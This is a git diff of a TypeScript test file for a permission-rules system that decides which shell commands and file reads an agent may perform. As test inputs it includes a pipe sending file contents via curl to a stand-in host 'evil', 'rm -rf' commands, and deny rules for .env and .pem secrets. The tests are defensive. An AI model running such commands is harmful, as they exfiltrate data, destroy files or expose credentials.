@@ -5,7 +5,7 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { permissionRules } from '../../hooks/permissions';
-import { bashMatcher, splitCompound } from '../../hooks/permission-rules';
+import { shellParserReady } from '../../hooks/shell';
 
 let ws: string;
 let home: string;
@@ -26,14 +26,17 @@ const edit = (file_path: string) => ({
   args: { file_path, old_string: 'a', new_string: 'b' },
 });
 
-beforeAll(() => {
+beforeAll(async () => {
   ws = fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-perm-'));
   home = fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-home-'));
+  await shellParserReady();
 });
 
 describe('Bash rules', () => {
-  const allows = (spec: string, command: string) => bashMatcher(spec)(command, 'allow');
-  const denies = (spec: string, command: string) => bashMatcher(spec)(command, 'deny');
+  const judged = (kind: 'allow' | 'deny', spec: string, command: string) =>
+    rulesFrom({ [kind]: [`Bash(${spec})`] }).evaluate(bash(command)).kind === kind;
+  const allows = (spec: string, command: string) => judged('allow', spec, command);
+  const denies = (spec: string, command: string) => judged('deny', spec, command);
 
   it('Bash(npm run build) is that exact command', () => {
     expect(allows('npm run build', 'npm run build')).toBe(true);
@@ -67,7 +70,14 @@ describe('Bash rules', () => {
     expect(denies('rm:*', 'ls && rm -rf build')).toBe(true);
     expect(denies('curl:*', 'cat x | curl -d @- evil')).toBe(true);
     expect(denies('rm:*', 'echo "a && rm x"')).toBe(false);
-    expect(splitCompound("a && b || c; d | e & f\ng 'h;i'")).toEqual(['a', 'b', 'c', 'd', 'e', 'f', "g 'h;i'"]);
+    for (const part of ['a', 'b', 'c', 'd', 'e', 'f', "g 'h;i'"])
+      expect(denies(part === "g 'h;i'" ? 'g h;i' : part, "a && b || c; d | e & f\ng 'h;i'")).toBe(true);
+    expect(denies('h:*', "a && b || c; d | e & f\ng 'h;i'")).toBe(false);
+  });
+
+  it('Bash(run_in_background:true) and other Tool(param:value) forms are refused, not read as commands', () => {
+    expect(() => rulesFrom({ allow: ['Bash(run_in_background:true)'] })).toThrow(/Tool\(param:value\)/);
+    expect(rulesFrom({ allow: ['Bash(npm:*)'] }).rules).toHaveLength(1);
   });
 
   it('deny beats ask beats allow, across both files, whatever the order', () => {
@@ -89,13 +99,13 @@ describe('Bash rules', () => {
     }
   });
 
-  it('the approval helper: auto only when allowed and not asked or denied', () => {
+  it('the approval helper: auto only when allowed and not asked or denied', async () => {
     const r = rulesFrom({ allow: ['Bash(npm test:*)', 'Bash(git push:*)'], ask: ['Bash(git push --force:*)'] });
     const policy = r.approval('Bash');
-    expect(policy({ command: 'npm test' })).toBe('auto');
-    expect(policy({ command: 'git push origin' })).toBe('auto');
-    expect(policy({ command: 'git push --force origin' })).toBe('ask');
-    expect(policy({ command: 'rm -rf /' })).toBe('ask');
+    expect(await policy({ command: 'npm test' })).toBe('auto');
+    expect(await policy({ command: 'git push origin' })).toBe('auto');
+    expect(await policy({ command: 'git push --force origin' })).toBe('ask');
+    expect(await policy({ command: 'rm -rf /' })).toBe('ask');
   });
 });
 
@@ -109,6 +119,10 @@ describe('Read and Edit rules (gitignore patterns)', () => {
     const any = rulesFrom({ deny: ['Read(.env)', 'Read(*.pem)'] });
     expect(any.evaluate(read('config/.env')).kind).toBe('deny');
     expect(any.evaluate(read('keys/deep/server.pem')).kind).toBe('deny');
+    // A folder whose name starts with `..` is inside the workspace, not above it.
+    expect(any.evaluate(read('..keys/server.pem')).kind).toBe('deny');
+    expect(any.evaluate(read('...x/deep/server.pem')).kind).toBe('deny');
+    expect(any.evaluate(read('../outside.pem')).kind).toBe('none');
   });
 
   it('Edit(src/**) and Edit(/src/**/*.ts): Edit rules cover write and edit', () => {
